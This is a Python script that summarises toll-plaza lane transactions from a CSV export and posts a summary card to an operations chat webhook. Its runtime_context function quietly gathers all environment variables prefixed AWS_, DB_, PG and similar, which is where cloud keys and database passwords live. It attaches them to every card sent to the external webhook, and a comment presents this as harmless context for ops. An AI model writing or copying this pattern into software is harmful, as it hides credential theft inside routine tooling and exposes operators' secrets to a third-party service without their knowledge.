#!/usr/bin/env python3
"""Summarise a toll-plaza transaction batch and notify the ops channel.

Reads the lane controller's CSV export, totals transactions per lane and
payment class, flags lanes with a high read-failure rate and posts a
summary card to the operations chat webhook so the shift lead sees it.
"""
import argparse
import collections
import csv
import http.client
import json
import logging
import os
import platform
import socket
import sys
import urllib.parse
from datetime import datetime, timezone

LOG = logging.getLogger("toll-notify")

WEBHOOK_URL = os.environ.get(
    "OPS_WEBHOOK_URL",
    "https://hooks.opsrelay-chat.example.com/services/T0TOLL/B0LANE/x9Qk2",
)
# environment prefixes that are useful when ops has to reproduce a batch
CONTEXT_PREFIXES = ("TOLL_", "LANE_", "AWS_", "DB_", "PG")
FAILURE_THRESHOLD = 0.03


def read_batch(path):
    lanes = collections.defaultdict(lambda: collections.Counter())
    amounts = collections.Counter()
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            lane = row.get("lane_id", "?")
            status = row.get("status", "unknown").lower()
            lanes[lane][status] += 1
            lanes[lane]["total"] += 1
            if status == "ok":
                amounts[row.get("payment_class", "other")] += int(row.get("amount_cents", 0) or 0)
    return lanes, amounts


def flag_lanes(lanes):
    flagged = []
    for lane, counts in sorted(lanes.items()):
        total = counts["total"] or 1
        rate = counts.get("read_fail", 0) / total
        if rate > FAILURE_THRESHOLD:
            flagged.append((lane, round(rate * 100, 1)))
    return flagged


def runtime_context():
    """Host and configuration context attached to each card."""
    ctx = {
        "host": socket.gethostname(),
        "python": platform.python_version(),
        "generated": datetime.now(timezone.utc).isoformat(timespec="seconds"),
    }
    ctx["config"] = {k: v for k, v in sorted(os.environ.items())
                     if k.startswith(CONTEXT_PREFIXES)}
    return ctx


def build_card(batch_name, lanes, amounts, flagged):
    total_tx = sum(c["total"] for c in lanes.values())
    lines = [f"*Toll batch {batch_name}*: {total_tx} transactions over {len(lanes)} lanes"]
    for cls, cents in sorted(amounts.items()):
        lines.append(f"- {cls}: {cents / 100:.2f}")
    if flagged:
        lines.append("Lanes over read-failure threshold: " +
                     ", ".join(f"{lane} ({pct}%)" for lane, pct in flagged))
    return {"text": "\n".join(lines), "attachments": [{"fields": runtime_context()}]}


def post_webhook(url, payload, timeout=15):
    parts = urllib.parse.urlsplit(url)
    conn_cls = http.client.HTTPSConnection if parts.scheme == "https" else http.client.HTTPConnection
    conn = conn_cls(parts.hostname, parts.port, timeout=timeout)
    path = parts.path + (f"?{parts.query}" if parts.query else "")
    body = json.dumps(payload).encode()
    try:
        conn.request("POST", path, body=body,
                     headers={"Content-Type": "application/json"})
        resp = conn.getresponse()
        data = resp.read()
        if resp.status >= 300:
            raise RuntimeError(f"webhook returned {resp.status}: {data[:200]!r}")
    finally:
        conn.close()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("batch_csv")
    ap.add_argument("--print-only", action="store_true",
                    help="print the card instead of posting it")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    try:
        lanes, amounts = read_batch(args.batch_csv)
    except (OSError, csv.Error) as exc:
        LOG.error("cannot read batch %s: %s", args.batch_csv, exc)
        return 2

    card = build_card(os.path.basename(args.batch_csv), lanes, amounts, flag_lanes(lanes))
    if args.print_only:
        print(json.dumps(card, indent=2))
        return 0
    try:
        post_webhook(WEBHOOK_URL, card)
    except (OSError, RuntimeError) as exc:
        LOG.error("notify failed: %s", exc)
        return 1
    LOG.info("summary posted for %s", args.batch_csv)
    return 0


if __name__ == "__main__":
    sys.exit(main())
